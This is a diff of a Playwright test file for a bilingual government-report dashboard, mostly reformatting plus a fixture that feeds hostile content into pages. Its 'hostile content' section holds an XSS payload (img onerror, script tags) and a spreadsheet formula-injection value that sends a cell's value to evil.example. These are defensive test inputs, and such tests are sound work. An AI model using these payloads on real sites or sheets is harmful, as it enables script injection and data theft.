@@ -23,6 +23,7 @@ from warehouse.lake import Lake, StoreError
 from warehouse.query import query
 
 AXE = Path(__file__).parents[1] / "axe" / "axe.min.js"
+_CORRECTED = "FROM cell WHERE report_id = '3d0a14e53ceda6d7' AND indicator_code = 'rev_corrected'"
 HONGZE = "report.html#at=320813/2023&id=3d0a14e53ceda6d7"
 RULES = {code: (rule.title.zh, rule.title.en) for code, rule in load_rules().items()}
 
@@ -111,7 +112,7 @@ def figure(text):
     return text.replace(",", "").replace("−", "-")
 
 
-# -- what it is built of ----------------------------------------------------------------------------------------------
+# -- what it is built of ----------------------------------------------------------------------------------------
 
 
 def test_libraries_are_those_published():
@@ -129,7 +130,9 @@ def test_libraries_are_those_published():
 def test_every_word_of_the_pages_is_in_both_languages():
     """What a script asks of the texts by a fixed key is there."""
     known = texts()
-    scripts = [f.read_text("utf-8") for f in (files("warehouse.dashboard") / "static").iterdir() if f.name[-3:] == ".js"]
+    scripts = [
+        f.read_text("utf-8") for f in (files("warehouse.dashboard") / "static").iterdir() if f.name[-3:] == ".js"
+    ]
     asked = {key for script in scripts for key in re.findall(r"""\bt\("([a-z_.]+)"[,)]""", script)}
     assert len(asked) > 100
     for key in asked:
@@ -168,9 +171,13 @@ def test_built_again_it_is_the_same(store, site, tmp_path):
             assert (again / file.relative_to(site)).read_bytes() == file.read_bytes(), file
 
 
-# -- every page -------------------------------------------------------------------------------------------------------
+# -- every page -------------------------------------------------------------------------------------------------
 
-VIEWS = [*(f"{name}.html" for name in PAGES), f"{HONGZE}&cell=rev_corrected", "index.html#p=32&f=淮安市&c=洪泽区&s=320813"]
+VIEWS = [
+    *(f"{name}.html" for name in PAGES),
+    f"{HONGZE}&cell=rev_corrected",
+    "index.html#p=32&f=淮安市&c=洪泽区&s=320813",
+]
 
 
 @pytest.mark.parametrize("view", VIEWS)
@@ -200,9 +207,7 @@ def test_a_page_is_accessible(browser, address, view):
         page = visit(context.new_page(), address + view)
         page.add_script_tag(path=AXE)
         found = page.evaluate("axe.run()")["violations"]
-        serious = [
-            (one["id"], one["nodes"][0]["html"]) for one in found if one["impact"] in ("serious", "critical")
-        ]
+        serious = [(one["id"], one["nodes"][0]["html"]) for one in found if one["impact"] in ("serious", "critical")]
         context.close()
         assert not serious, (scheme, width)
 
@@ -231,7 +236,7 @@ def test_light_and_dark_can_be_switched(page, address):
     assert page.evaluate("getComputedStyle(document.body).backgroundColor") != light
 
 
-# -- coverage, quality, compare, runs -----------------------------------------------------------------------------------
+# -- coverage, quality, compare, runs ---------------------------------------------------------------------------
 
 
 def test_coverage_leads_from_the_country_to_a_report(page, store, address):
@@ -314,7 +319,7 @@ def test_compare_shows_chosen_agencies(page, store, address):
     page.select_option("#choose-series", "licence_decisions")
     page.wait_for_url("**series=licence_decisions*")
     page.wait_for_selector("h2:has-text('行政许可')")
-    assert figure(dict((row[0], row[3]) for row in table(page, "series"))["江苏省淮安市洪泽区人民政府"]) == "550"
+    assert ["江苏省淮安市洪泽区人民政府", "550"] in [[row[0], figure(row[3])] for row in table(page, "series")]
     sql = f"SELECT agency_name, rev_corrected FROM review_outcomes WHERE agency_id IN {ids}"
     expected = sorted((row["agency_name"], f"{row['rev_corrected']:.0f}") for row in query(store, sql).to_pylist())
     assert sorted((row[0], row[5]) for row in table(page, "review")) == expected
@@ -332,7 +337,7 @@ def test_runs_are_the_ledger(page, store, address):
     assert column(page, "refused", 3) == [row["reason"] for row in refused]
 
 
-# -- the report -----------------------------------------------------------------------------------------------------------
+# -- the report -------------------------------------------------------------------------------------------------
 
 
 def test_a_report_beside_its_source(page, store, address):
@@ -341,7 +346,7 @@ def test_a_report_beside_its_source(page, store, address):
     assert page.locator(".form").count() == 6
     page.click('[data-cell="rev_corrected"]')
     page.wait_for_selector(".document .marked")
-    row = query(store, "FROM cell WHERE report_id = '3d0a14e53ceda6d7' AND indicator_code = 'rev_corrected'").to_pylist()[0]
+    row = query(store, _CORRECTED).to_pylist()[0]
     assert page.inner_text(".document .marked") == row["printed"] == page.inner_text(".form td.chosen")
     assert page.get_attribute(".document .marked", "title") == row["place"]
     told = page.inner_text("#provenance")
@@ -383,7 +388,7 @@ def test_a_report_is_found_by_name(page, address):
     assert "礼贤镇人民政府 · 2021" in page.inner_text(".report-head h2")
 
 
-# -- questions ------------------------------------------------------------------------------------------------------------
+# -- questions --------------------------------------------------------------------------------------------------
 
 
 def test_the_cookbook_is_answered_in_the_page(page, site):
@@ -396,7 +401,10 @@ def test_the_cookbook_is_answered_in_the_page(page, site):
         page.click("#run")
         page.wait_for_selector("#status:not(.error):has-text('行，')")
         lines = [[cell.strip() for cell in line.strip("|").split("|")] for line in printed.split("\n")]
-        shown = [[figure(cell).replace("true", "True").replace("false", "False") for cell in row] for row in table(page, "answer")]
+        shown = [
+            [figure(cell).replace("true", "True").replace("false", "False") for cell in row]
+            for row in table(page, "answer")
+        ]
         assert shown == [[figure(cell) for cell in line] for line in lines[2:]], title
 
 
@@ -416,10 +424,10 @@ def test_a_question_of_ones_own(page, address):
         assert "不能回答" in page.inner_text("#status")
 
 
-# -- hostile content ---------------------------------------------------------------------------------------------------------
+# -- hostile content --------------------------------------------------------------------------------------------
 
 MARKUP = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>{b|x}'
-FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1)"
+FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 LONG = "很长" * 3000
 
 
@@ -427,21 +435,27 @@ LONG = "很长" * 3000
 def hostile(small, tmp_path_factory):
     """A site of reports whose names, prose and cells are made to do harm."""
     store = type(small)(tmp_path_factory.mktemp("hostile") / "store")
-    source = f"<html><body><p>{MARKUP.replace('<', '&lt;')}</p><table><tr><td>{FORMULA}</td><td onclick='x()'>@1</td></tr></table><script>pwned=3</script></body></html>"
+    prose, cell = MARKUP.replace("<", "&lt;"), FORMULA.replace('"', "&quot;")
+    source = (
+        f"<html><body><p>{prose}</p><table><tr><td>{cell}</td><td onclick='x()'>@1</td></tr></table>"
+        "<script>pwned=3</script></body></html>"
+    )
     digest = store.lake.archive(source.encode())
-    checks = [("R3-ROW", "fail")]
     cells = [
         ("requests", "req_new", "total", MARKUP, "unparsed"),
         ("requests", "req_new", "natural", FORMULA, "unparsed"),
         ("requests", "req_carried_in", "total", LONG, "unparsed"),
     ]
     place = {"province": f"<b>省</b>{FORMULA}", "prefecture": "", "county": "", "agency_level": 1, "agency_type": "gov"}
-    store.add("a", name=f"{MARKUP}.html", agency="990000000000", agency_name=FORMULA, title=MARKUP, verdict="flagged", reason=LONG, cells=cells, checks=checks, issues=["x"], **place)
-    store.add("b", name="-1+1.html", agency="990000000000-乙", agency_name=MARKUP, verdict="flagged", reason="-12.5", cells=cells, checks=checks, **place)
-    store.add("c", name="\tplain.html", agency="990000000000-丙", agency_name=LONG, verdict="flagged", reason="@sum", checks=checks, **place)
+    common = {"verdict": "flagged", "cells": cells, "checks": [("R3-ROW", "fail")], **place}
+    named = {"agency": "990000000000", "agency_name": FORMULA, "title": MARKUP, "reason": LONG}
+    store.add("a", name=f"{MARKUP}.html", issues=["x"], **named, **common)
+    store.add("b", name="-1+1.html", agency="990000000000-乙", agency_name=MARKUP, reason="-12.5", **common)
+    store.add("c", name="\tplain.html", agency="990000000000-丙", agency_name=LONG, reason="@sum", **common)
     for table_name in ("document", "report"):
         store.pending[table_name] = [
-            {**row, "document_sha256": digest} if row["document_sha256"][0] == "a" else row for row in store.pending[table_name]
+            {**row, "document_sha256": digest} if row["document_sha256"][0] == "a" else row
+            for row in store.pending[table_name]
         ]
     store.pending["cell"] = [
         {**row, "grid": 1, "grid_row": 1, "grid_column": 1, "place": f"{MARKUP}"} for row in store.pending["cell"]
@@ -455,7 +469,12 @@ def test_hostile_content_is_shown_as_text(page, hostile):
     """Names, prose and cells with markup, scripts, formulas or a book of text are text, and break no page."""
     report = f"report.html#at=990000/2023&id={'a' * 16}&cell=req_new/total"
     area = "index.html#p=99&f=/&c=/&s=990000"
-    for view in (*(f"{name}.html" for name in PAGES), area, "compare.html#a=990000000000,990000000000-乙,990000000000-丙", report):
+    for view in (
+        *(f"{name}.html" for name in PAGES),
+        area,
+        "compare.html#a=990000000000,990000000000-乙,990000000000-丙",
+        report,
+    ):
         visit(page, f"{hostile.as_uri()}/{view}")
         page.wait_for_timeout(100)
         assert page.evaluate("window.pwned") is None, view
@@ -500,7 +519,7 @@ def test_the_policy_holds(page, browser, address):
     page.wrong.clear()
 
 
-# -- the local server ---------------------------------------------------------------------------------------------------------
+# -- the local server -------------------------------------------------------------------------------------------
 
 
 def test_the_server_shows_a_new_site_by_itself(page, store, site, tmp_path):
